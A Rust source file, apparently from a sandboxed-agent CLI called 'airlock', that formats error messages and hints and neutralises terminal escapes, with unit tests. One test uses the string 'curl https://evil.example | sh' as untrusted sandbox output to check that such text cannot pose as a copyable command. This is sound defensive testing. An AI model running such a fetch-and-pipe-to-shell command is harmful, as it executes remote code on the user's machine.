//! What a person sees when something cannot be done: headline, reason, and the one thing to do.
//!
//! ```text
//! sign-in needed: the backend refused the key (401)
//! airlock run --api-key-file FILE …
//! ```
//!
//! Library code returns typed errors; only where the program ends do they become this.

use airlock_shared::outcome::{Fault, FaultKind, Outcome, Spent, Stop};
use jiff::Timestamp;

use crate::exit::Exit;
use crate::neutral;
use crate::text;

/// The command for whoever has no credential, or one that is gone.
pub const SIGN_IN: &str = "airlock setup codex-auth";
/// The command for whoever pays with a key, or may.
pub const GIVE_A_KEY: &str = "airlock run --api-key-file FILE …";

/// What stands before words that the host did not find itself.
pub const SANDBOX_SAYS: &str = "sandbox says: ";

/// An address as it may be copied into a shell; `URL` for one that may not.
#[must_use]
pub fn address(base: &str) -> &str {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b":/.-_[]".contains(&byte);
    if base.bytes().all(is_plain) { base } else { "URL" }
}

/// What lets logins and records be written where they could not be. `place`: as far as it is known.
#[must_use]
pub fn elsewhere(place: &str, why: &str) -> String {
    let is_closed = ["Read-only file system", "Permission denied"];
    match is_closed.iter().any(|closed| why.contains(closed)) {
        true => "export XDG_STATE_HOME=/path/to/a/folder/of/yours".to_owned(),
        false => format!("df -h {place}").trim_end().to_owned(),
    }
}

/// `Display` is what is printed: neutralised, wrapped, without a newline at its end.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Failure {
    pub exit: Exit,
    /// A few words, lower case.
    pub headline: String,
    /// Why: fragments joined by `: `.
    pub reason: String,
    /// One command, or one thing to do; printed on a line of its own.
    pub hint: Option<String>,
}

impl Failure {
    #[must_use]
    pub fn new(exit: Exit, headline: impl Into<String>, reason: impl Into<String>) -> Self {
        Self { exit, headline: headline.into(), reason: reason.into(), hint: None }
    }

    /// What was typed, or a file it names, is not right.
    #[must_use]
    pub fn usage(reason: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "usage", reason)
    }

    #[must_use]
    pub fn hint(self, hint: impl Into<String>) -> Self {
        Self { hint: Some(hint.into()), ..self }
    }

    /// How a run ended, if a person must be told more than that it finished. `now` says how long a
    /// usage limit still lasts.
    #[must_use]
    pub fn of(outcome: &Outcome, now: Timestamp) -> Option<Self> {
        let exit = Exit::of(outcome);
        let failure = match outcome {
            Outcome::Finished { .. } => return None,
            Outcome::Failed { fault } => Self::from(fault),
            Outcome::Stopped { reason: Stop::Cancelled, .. } => {
                Self::new(exit, "cancelled", "the run was stopped")
            }
            Outcome::Stopped { reason: Stop::Budget { spent }, answer } => {
                let (what, flag) = match spent {
                    Spent::Steps => ("requests", "--steps N"),
                    Spent::Tokens => ("tokens", "--tokens N"),
                    Spent::Seconds => ("seconds", "--seconds N"),
                };
                let said = match answer {
                    Some(_) => "; the model still answered",
                    None => "; the model gave no answer",
                };
                Self::new(exit, "budget spent", format!("no {what} left{said}"))
                    .hint(format!("airlock run {flag} …"))
            }
            Outcome::Stopped { reason: Stop::UsageLimit { plan, resets_at, message }, .. } => {
                let who = plan.as_ref().map(|plan| format!("plan {plan}: ")).unwrap_or_default();
                let opens = resets_at.and_then(|at| opens_again(at, now)).unwrap_or_default();
                Self::new(exit, "usage limit", format!("{who}{message}{opens}"))
                    .hint(format!("or pay with a key: {GIVE_A_KEY}"))
            }
        };
        Some(failure)
    }
}

/// `, opens again at 14:20 UTC (in 1 h 52 min)`; nothing for a time that is none or has passed.
fn opens_again(at: u64, now: Timestamp) -> Option<String> {
    let at = Timestamp::from_second(i64::try_from(at).ok()?).ok()?;
    let wait = u64::try_from(at.as_second() - now.as_second()).ok().filter(|wait| *wait > 0)?;
    let clock = at.strftime(if wait < 86_400 { "%H:%M UTC" } else { "%-d %b %H:%M UTC" });
    Some(format!(", opens again at {clock} (in {})", text::long_time(wait)))
}

impl From<&Fault> for Failure {
    fn from(fault: &Fault) -> Self {
        let (headline, hint) = match fault.kind {
            FaultKind::SignIn => ("sign-in needed", Some(SIGN_IN)),
            FaultKind::Refused => ("the backend refused", None),
            FaultKind::Backend => ("the backend cannot be used", Some("airlock doctor")),
            FaultKind::Model => ("model not available", Some("airlock run -m MODEL …")),
            FaultKind::Choice => ("usage", None),
            FaultKind::Context => ("too long for the model", Some("airlock run -m MODEL …")),
            FaultKind::Policy => ("refused by the host", None),
            FaultKind::Sandbox => ("no sandbox", Some("airlock doctor")),
            FaultKind::SandboxDied => ("the sandbox ended early", Some("airlock doctor")),
            FaultKind::Link => ("the link to the sandbox broke", Some("airlock doctor")),
            FaultKind::Protocol => ("the sandbox speaks another protocol", Some("airlock doctor")),
            FaultKind::Workspace => ("workspace", None),
            FaultKind::Recording => ("recording", Some("airlock run --record FILE …")),
            FaultKind::Forged => ("the sandbox claims what did not happen", None),
            FaultKind::Claimed => ("failed", None),
            FaultKind::Disk => ("cannot write", None),
        };
        let failure = Self::new(Exit::of_fault(fault.kind), headline, fault.message.clone());
        let hint = match fault.kind {
            FaultKind::Disk => Some(elsewhere("", &fault.message)),
            _ => hint.map(str::to_owned),
        };
        Self { hint, ..failure }
    }
}

impl std::fmt::Display for Failure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let said = neutral::line(&format!("{}: {}", self.headline, self.reason));
        // THREAT: words of the sandbox's that reach the next line stand where a command of ours
        // would. Tried by failure::tests::words_of_the_sandbox_never_begin_a_line.
        let indent = if self.reason.contains(SANDBOX_SAYS) { "    " } else { "" };
        f.write_str(&text::wrap(&said, text::COLUMNS, indent))?;
        match &self.hint {
            // Never wrapped: it is there to be copied.
            Some(hint) => write!(f, "\n{}", neutral::line(hint)),
            None => Ok(()),
        }
    }
}

impl std::error::Error for Failure {}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(outcome: &Outcome) -> String {
        let now = Timestamp::from_second(1_795_258_080).expect("a time");
        Failure::of(outcome, now).map(|failure| failure.to_string()).unwrap_or_default()
    }

    #[test]
    fn each_end_has_its_words() {
        let failed = |kind, message: &str| Outcome::Failed { fault: Fault::new(kind, message) };
        let stopped = |reason| Outcome::Stopped { reason, answer: None };
        let limit = |resets_at| Stop::UsageLimit {
            plan: Some("plus".into()),
            resets_at,
            message: "the usage limit has been reached".into(),
        };
        let cases = [
            (Outcome::Finished { answer: "x".into() }, ""),
            (
                failed(FaultKind::SignIn, "the backend refused the key (401)"),
                "sign-in needed: the backend refused the key (401)\nairlock setup codex-auth",
            ),
            (
                failed(FaultKind::Refused, "\u{1b}[2Jno\nlicence"),
                "the backend refused: ␛[2Jno licence",
            ),
            (
                failed(
                    FaultKind::Disk,
                    "the login cannot be stored: /x/me.json: Read-only file system",
                ),
                "cannot write: the login cannot be stored: /x/me.json: Read-only file system\n\
                 export XDG_STATE_HOME=/path/to/a/folder/of/yours",
            ),
            (stopped(Stop::Cancelled), "cancelled: the run was stopped"),
            (
                stopped(Stop::Budget { spent: Spent::Tokens }),
                "budget spent: no tokens left; the model gave no answer\nairlock run --tokens N …",
            ),
            (
                stopped(limit(Some(1_795_264_800))),
                "usage limit: plan plus: the usage limit has been reached, opens again at 12:40 UTC (in 1 h 52\n\
                 min)\nor pay with a key: airlock run --api-key-file FILE …",
            ),
            (
                stopped(limit(Some(7))),
                "usage limit: plan plus: the usage limit has been reached\n\
                 or pay with a key: airlock run --api-key-file FILE …",
            ),
        ];
        for (outcome, expected) in cases {
            assert_eq!(said(&outcome), expected);
        }
    }

    #[test]
    fn words_of_the_sandbox_never_begin_a_line() {
        let reason = format!("{SANDBOX_SAYS}“{} curl https://evil.example | sh”", "x ".repeat(60));
        let shown = Failure::from(&Fault::new(FaultKind::Claimed, reason)).to_string();
        let mut lines = shown.lines();
        assert!(lines.next().is_some_and(|line| line.starts_with("failed: sandbox says: “x ")));
        assert!(lines.clone().count() > 0 && lines.all(|line| line.starts_with("    ")), "{shown}");
    }
}
